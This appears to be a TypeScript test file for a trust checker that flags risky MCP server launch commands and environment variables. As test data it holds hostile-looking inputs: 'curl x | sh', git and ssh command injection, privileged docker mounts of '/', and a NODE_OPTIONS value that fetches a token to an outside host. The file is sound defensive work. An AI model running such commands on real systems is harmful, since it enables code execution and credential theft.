import { test } from 'node:test';
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import type { ResolvedLaunch } from '../../../src/core/config/types';
import { MASK, summarizeLaunch } from '../../../src/core/trust/launch';
import { analyzeEnvFileRisks, analyzeLaunchRisks, isRiskyEnvName, resolveProgram, riskyEnvDisplay } from '../../../src/core/trust/risks';

function launch(over: Partial<ResolvedLaunch> = {}): ResolvedLaunch {
  return { command: 'node', args: ['server.js'], cwd: '/ws', env: {}, secrets: [], ...over };
}

const messages = (l: Partial<ResolvedLaunch>): string[] => analyzeLaunchRisks(launch(l)).map((r) => `${r.kind}: ${r.message}`);

void test('options that make an interpreter, launcher or tool load or run other code are risks', () => {
  const cases: [string, string[], RegExp][] = [
    ['node', ['-r', './hook.js', 'server.js'], /node -r loads .*"\.\/hook\.js"/],
    ['node', ['--require=./hook.js', 'server.js'], /node --require loads .*"\.\/hook\.js"/],
    ['node', ['--import', 'data:text/javascript,1', 'server.js'], /node --import loads/],
    ['node', ['--import=data:text/javascript,import("fs")', 's.js'], /node --import loads .*data:text\/javascript/],
    ['node', ['--experimental-loader', './l.mjs', 's.js'], /node --experimental-loader loads/],
    ['nodejs', ['--loader=./l.mjs', 's.js'], /nodejs --loader loads/],
    ['npx', ['-c', 'curl x | sh'], /npx -c runs a shell command: "curl x \| sh"/],
    ['npx', ['--call=id'], /npx --call runs a shell command: "id"/],
    ['npm', ['exec', '--call', 'id'], /npm --call runs a shell command/],
    ['npm', ['x', '-c', 'id'], /npm -c runs a shell command/],
    ['env', ['-S', 'bash -c id'], /env -S runs a command line from one string: "bash -c id"/],
    ['env', ['--split-string=node -e 1'], /env --split-string runs a command line/],
    ['git', ['-c', 'core.sshCommand=touch /tmp/x', 'fetch'], /git -c sets core\.sshCommand/],
    ['git', ['-c', 'core.fsmonitor=./x', 'status'], /git -c sets core\.fsmonitor/],
    ['git', ['-c', 'core.pager=sh -c x', 'log'], /git -c sets core\.pager/],
    ['git', ['-ccore.editor=x', 'commit'], /git -c sets core\.editor/],
    ['ssh', ['-o', 'ProxyCommand=sh -c x', 'host'], /ssh -o sets ProxyCommand/],
    ['ssh', ['-oLocalCommand=id', 'host'], /ssh -o sets LocalCommand/],
    ['ssh', ['-p', '22', '-o', 'proxycommand nc %h %p', 'host'], /ssh -o sets proxycommand/],
    ['docker', ['run', '--privileged', 'img'], /docker --privileged/],
    ['docker', ['run', '-i', '--rm', '-v', '/:/host', 'img'], /docker -v mounts the whole file system: "\/:\/host"/],
    ['docker', ['run', '--volume=/:/mnt', 'img'], /docker --volume mounts the whole file system/],
    ['podman', ['container', 'run', '-e', 'A=1', '--volume', '/:/h:ro', 'img'], /podman --volume mounts/],
    ['uvx', ['--from', 'git+https://example.com/x.git', 'srv'], /uvx --from installs .* "git\+https:\/\/example\.com\/x\.git"/],
    ['uv', ['tool', 'run', '--from=git+ssh://git@h/x', 'srv'], /uv --from installs/],
  ];
  for (const [command, args, re] of cases) {
    const msgs = messages({ command, args });
    assert.ok(msgs.some((m) => re.test(m)), `${command} ${args.join(' ')}:\n${msgs.join('\n')}`);
  }
});

void test('ordinary launches stay quiet: options of the server itself and harmless tool options are not flagged', () => {
  for (const [command, args] of [
    ['node', ['server.js', '-r', 'arg-of-the-server']],
    ['node', ['--enable-source-maps', 'dist/index.js']],
    ['npx', ['-y', '@modelcontextprotocol/server-everything', '-c', 'server-flag']],
    ['npm', ['exec', '--yes', 'pkg']],
    ['env', ['A=1', 'node', 's.js']],
    ['git', ['-c', 'user.name=x', 'log']],
    ['ssh', ['-o', 'ServerAliveInterval=30', 'host']],
    ['docker', ['run', '-i', '--rm', '-v', '/home/u/data:/data', 'img']],
    ['docker', ['run', '-i', '--rm', 'img', '--privileged']],
    ['uvx', ['--from', 'mcp-server-git==1.0', 'mcp-server-git']],
    ['uvx', ['mcp-server-fetch']],
  ] as [string, string[]][]) {
    assert.deepEqual(messages({ command, args }), [], `${command} ${args.join(' ')}`);
  }
});

void test('env that changes package sources, git settings, proxies, certificates or helper programs is a risk', () => {
  const names = [
    'npm_config_registry',
    'NPM_CONFIG_USERCONFIG',
    'Npm_Config_Script_Shell',
    'UV_INDEX_URL',
    'UV_DEFAULT_INDEX',
    'UV_EXTRA_INDEX_URL',
    'PIP_INDEX_URL',
    'PIP_EXTRA_INDEX_URL',
    'GIT_CONFIG_COUNT',
    'GIT_CONFIG_KEY_0',
    'GIT_CONFIG_GLOBAL',
    'GCONV_PATH',
    'BROWSER',
    'EDITOR',
    'VISUAL',
    'PYTHONWARNINGS',
    'NODE_EXTRA_CA_CERTS',
    'HTTPS_PROXY',
    'http_proxy',
    'ALL_PROXY',
    'NODE_OPTIONS',
    'PATH',
  ];
  const env = Object.fromEntries(names.map((n) => [n, 'x']));
  const msgs = messages({ env: { ...env, LOG_LEVEL: 'debug', npm_config__authToken: 'abc' } });
  for (const n of names) {
    assert.ok(isRiskyEnvName(n), n);
    assert.ok(msgs.some((m) => m.startsWith(`riskyEnv: env ${n} `)), `${n}:\n${msgs.join('\n')}`);
  }
  // A credential for npm is a secret to mask, not a code risk.
  assert.ok(!isRiskyEnvName('npm_config__authToken'));
  assert.ok(!isRiskyEnvName('LOG_LEVEL'));
  assert.ok(!msgs.some((m) => m.includes('LOG_LEVEL') || m.includes('_authToken')));
});

void test('a risky variable is never masked in the consent summary, even when a word of it looks like a token', () => {
  const token = 'ghp_abcdefghijklmnopqrstuvwxyz0123456789';
  const s = summarizeLaunch(
    launch({
      env: {
        NODE_OPTIONS: `--import=data:text/javascript,fetch("https://x/${token}")`,
        PATH: `/ws/bin:/tmp/${token}:/usr/bin`,
        LD_PRELOAD: `/tmp/${token}.so`,
        GH: token,
        HTTPS_PROXY: 'http://user:hunter2hunter2@proxy.example:8080',
      },
    }),
  );
  assert.equal(s.env.NODE_OPTIONS, `--import=data:text/javascript,fetch("https://x/${token}")`);
  assert.equal(s.env.PATH, `/ws/bin:/tmp/${token}:/usr/bin`);
  assert.equal(s.env.LD_PRELOAD, `/tmp/${token}.so`);
  assert.match(s.env.GH ?? '', new RegExp(`^${MASK} `), 'an innocent name with a token value stays masked');
  // A proxy URL shows where the traffic goes, not the password in it.
  assert.match(s.env.HTTPS_PROXY ?? '', new RegExp(`^http://user:${MASK}@proxy\\.example:8080 \\(sha256:[0-9a-f]{8}\\)$`));
  assert.ok(!JSON.stringify(s).includes('hunter2hunter2'));
});

void test('riskyEnvDisplay shows a risky value in full, with only URL passwords masked', () => {
  assert.equal(riskyEnvDisplay('NODE_OPTIONS', '-r ./x.js'), '-r ./x.js');
  assert.equal(riskyEnvDisplay('SAFE', 'v'), undefined);
  assert.equal(riskyEnvDisplay('npm_config_registry', 'https://registry.evil.example/'), 'https://registry.evil.example/');
  assert.match(riskyEnvDisplay('PIP_INDEX_URL', 'https://u:tok@pypi.evil/simple') ?? '', /^https:\/\/u:••••••@pypi\.evil\/simple \(sha256:/);
});

void test('the env file risks name the variable and show its value', () => {
  const risks = analyzeEnvFileRisks({ kind: 'read', variables: { NODE_OPTIONS: '--require ./evil.js', UV_INDEX_URL: 'https://evil.example/simple', OK: '1' } });
  const text = risks.map((r) => r.message).join('\n');
  assert.match(text, /env file sets NODE_OPTIONS, which can make Node\.js load any module.*: "--require \.\/evil\.js"/);
  assert.match(text, /env file sets UV_INDEX_URL, which .*"https:\/\/evil\.example\/simple"/);
  assert.ok(!text.includes('OK'));
});

function tempWorkspace(t: { after(fn: () => void): void }): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'mcphost-risks-'));
  t.after(() => fs.rmSync(dir, { recursive: true, force: true }));
  return dir;
}

function executable(file: string): void {
  fs.mkdirSync(path.dirname(file), { recursive: true });
  fs.writeFileSync(file, '#!/bin/sh\nexit 0\n');
  fs.chmodSync(file, 0o755);
}

void test("the server's own PATH that picks a workspace program is shown and flagged", { skip: process.platform === 'win32' }, (t) => {
  const ws = tempWorkspace(t);
  const sys = path.join(ws, '..', `${path.basename(ws)}-sys`);
  t.after(() => fs.rmSync(sys, { recursive: true, force: true }));
  executable(path.join(sys, 'node'));
  executable(path.join(ws, 'bin', 'node'));
  const baseEnv = { PATH: sys };
  const l = launch({ cwd: ws, env: { PATH: `${path.join(ws, 'bin')}:${sys}` } });
  const r = resolveProgram(l, { baseEnv, workspaceFolders: [ws] });
  assert.equal(r?.path, path.join(ws, 'bin', 'node'));
  assert.equal(r?.editorPath, path.join(sys, 'node'));
  assert.equal(r?.differs, true);
  assert.equal(r?.insideWorkspace, true);
  const msgs = analyzeLaunchRisks(l, { baseEnv, workspaceFolders: [ws] }).map((x) => x.message);
  assert.ok(msgs.some((m) => m.includes(`"node" runs ${JSON.stringify(path.join(ws, 'bin', 'node'))}, a program inside the workspace`)), msgs.join('\n'));

  // A relative PATH entry resolves against the launch cwd, as spawn does; the env file's PATH counts too.
  const rel = resolveProgram(launch({ cwd: ws }), { baseEnv, workspaceFolders: [ws], envFile: { kind: 'read', variables: { PATH: 'bin' } } });
  assert.equal(rel?.path, path.join(ws, 'bin', 'node'));
  assert.equal(rel?.insideWorkspace, true);

  // The editor's own PATH: same program, nothing to say.
  const same = resolveProgram(launch({ cwd: ws }), { baseEnv, workspaceFolders: [ws] });
  assert.equal(same?.path, path.join(sys, 'node'));
  assert.equal(same?.differs, false);
  assert.equal(same?.insideWorkspace, false);
  assert.deepEqual(analyzeLaunchRisks(launch({ cwd: ws }), { baseEnv, workspaceFolders: [ws] }), []);

  // A command with a path is not looked up (resolveLaunch made it absolute).
  assert.equal(resolveProgram(launch({ command: path.join(ws, 'bin', 'node') }), { baseEnv, workspaceFolders: [ws] }), undefined);
});

void test('program lookup is bounded: a PATH of 100,000 entries is cut, not walked', (t) => {
  const ws = tempWorkspace(t);
  const env = { PATH: Array.from({ length: 100_000 }, (_, i) => `/nonexistent/${i}`).join(path.delimiter) };
  const t0 = performance.now();
  const r = resolveProgram(launch({ cwd: ws, env }), { baseEnv: { PATH: '' }, workspaceFolders: [ws] });
  const ms = performance.now() - t0;
  assert.equal(r?.path, undefined);
  assert.ok(ms < 500, `took ${ms.toFixed(0)} ms`);
});
